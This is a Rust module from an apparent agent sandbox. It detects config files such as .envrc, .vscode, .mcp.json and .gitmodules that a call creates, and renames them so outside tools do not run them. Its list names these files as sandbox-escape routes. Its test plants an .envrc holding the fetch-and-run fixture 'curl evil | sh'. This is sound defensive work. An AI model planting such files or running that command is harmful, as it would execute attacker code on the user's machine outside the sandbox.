//! Files that did not exist when the session opened and that no call may leave behind: names a
//! tool outside the sandbox reads later as configuration or code to run (a repository's
//! `.git/commondir`, a writable folder's `.envrc`, `.vscode`, `.mcp.json`, `.idea`,
//! `.gitmodules`). They cannot be masked while missing (a mount needs its point to exist, so
//! masking would create them in the user's folder), so one that appears while a call runs is
//! set aside when the call ends: renamed beside itself to `NAME.pod-planted` (never over
//! anything), so nothing is lost and nothing reads it.
//!
//! Owns the list and the renaming; it decides nothing and runs no process.

use std::path::{Path, PathBuf};

/// The names a writable folder must not gain, with who reads them.
pub const WATCHED: [(&str, &str); 5] = [
    (".envrc", "direnv runs it when a shell enters the folder"),
    (".vscode", "the editor reads its settings and tasks"),
    (".mcp.json", "MCP clients start the servers it names"),
    (".idea", "the IDE reads its run configurations"),
    (
        ".gitmodules",
        "git reads submodule URLs and update commands from it",
    ),
];

const COMMONDIR: &str = "git would read its configuration and hooks from where it points";

/// One watched path and who would read it.
#[derive(Debug, Clone)]
pub struct Sentinel {
    path: PathBuf,
    reader: &'static str,
}

impl Sentinel {
    /// The watched names of `folder` that are missing now, and each repository's `commondir`.
    pub fn missing_in(folders: &[PathBuf], repositories: &[PathBuf]) -> Vec<Sentinel> {
        let watched = folders.iter().flat_map(|folder| {
            WATCHED.iter().map(move |(name, reader)| Sentinel {
                path: folder.join(name),
                reader,
            })
        });
        let commondirs = repositories.iter().map(|git| Sentinel {
            path: git.join("commondir"),
            reader: COMMONDIR,
        });
        watched
            .chain(commondirs)
            .filter(|s| !exists(&s.path))
            .collect()
    }
}

/// What a call's start saw missing, to compare with its end: a file pod's own tools made
/// between calls is not the call's to undo.
#[derive(Debug, Default)]
pub struct Watch(Vec<usize>);

/// A file set aside.
#[derive(Debug)]
pub struct Planted {
    pub path: PathBuf,
    /// Where it is now; `None` when it could not be moved (logged, and said in the result).
    pub moved_to: Option<PathBuf>,
    /// The start of what it held, or what it is (a folder, a link).
    pub held: String,
    /// Who would have read it.
    pub reader: &'static str,
}

/// The sentinels missing now.
pub fn watch(sentinels: &[Sentinel]) -> Watch {
    Watch(
        sentinels
            .iter()
            .enumerate()
            .filter(|(_, s)| !exists(&s.path))
            .map(|(i, _)| i)
            .collect(),
    )
}

/// Sets aside each sentinel `watch` saw missing that exists now.
pub fn set_aside(sentinels: &[Sentinel], watch: &Watch) -> Vec<Planted> {
    let mut out = Vec::new();
    for s in watch.0.iter().filter_map(|&i| sentinels.get(i)) {
        let Ok(meta) = s.path.symlink_metadata() else {
            continue;
        };
        let held = if meta.file_type().is_symlink() {
            std::fs::read_link(&s.path)
                .map(|t| format!("a link to {}", t.display()))
                .unwrap_or_else(|_| "a link".to_string())
        } else if meta.is_dir() {
            "a folder".to_string()
        } else {
            let bytes = std::fs::read(&s.path).unwrap_or_default();
            String::from_utf8_lossy(&bytes[..bytes.len().min(200)])
                .trim()
                .to_string()
        };
        let moved_to = move_aside(&s.path);
        if moved_to.is_none() {
            tracing::error!(
                "sandbox: cannot set aside {}, which a call made ({}); remove it yourself",
                s.path.display(),
                s.reader
            );
        }
        out.push(Planted {
            path: s.path.clone(),
            moved_to,
            held,
            reader: s.reader,
        });
    }
    out
}

/// Renames `path` beside itself, never over an existing name.
fn move_aside(path: &Path) -> Option<PathBuf> {
    let name = path.file_name()?.to_string_lossy().into_owned();
    let dir = path.parent()?;
    for n in 0..100u32 {
        let new = if n == 0 {
            dir.join(format!("{name}.pod-planted"))
        } else {
            dir.join(format!("{name}.pod-planted-{n}"))
        };
        match rustix::fs::renameat_with(
            rustix::fs::CWD,
            path,
            rustix::fs::CWD,
            &new,
            rustix::fs::RenameFlags::NOREPLACE,
        ) {
            Ok(()) => return Some(new),
            Err(rustix::io::Errno::EXIST) => continue,
            Err(_) => return None,
        }
    }
    None
}

fn exists(p: &Path) -> bool {
    p.symlink_metadata().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_made_during_a_call_is_set_aside_and_one_made_before_is_not() {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().to_path_buf();
        std::fs::write(root.join(".idea"), "mine").expect("write");
        let sentinels = Sentinel::missing_in(std::slice::from_ref(&root), &[]);
        // `.idea` existed at open: not watched.
        assert!(sentinels.iter().all(|s| !s.path.ends_with(".idea")));
        // Made between calls (pod's own tool): the next call's watch does not see it missing.
        std::fs::write(root.join(".mcp.json"), "{}").expect("write");
        let w = watch(&sentinels);
        std::fs::write(root.join(".envrc"), "curl evil | sh\n").expect("write");
        std::fs::create_dir(root.join(".vscode")).expect("mkdir");
        // A name already taken beside it is never overwritten.
        std::fs::write(root.join(".envrc.pod-planted"), "earlier").expect("write");
        let planted = set_aside(&sentinels, &w);
        let names: Vec<_> = planted.iter().map(|p| p.path.clone()).collect();
        assert_eq!(names, vec![root.join(".envrc"), root.join(".vscode")]);
        assert!(!root.join(".envrc").exists() && !root.join(".vscode").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc.pod-planted-1")).expect("moved"),
            "curl evil | sh\n"
        );
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc.pod-planted")).expect("kept"),
            "earlier"
        );
        assert!(root.join(".vscode.pod-planted").is_dir());
        assert_eq!(planted[0].held, "curl evil | sh");
        assert_eq!(
            std::fs::read_to_string(root.join(".mcp.json")).expect("kept"),
            "{}"
        );
    }
}
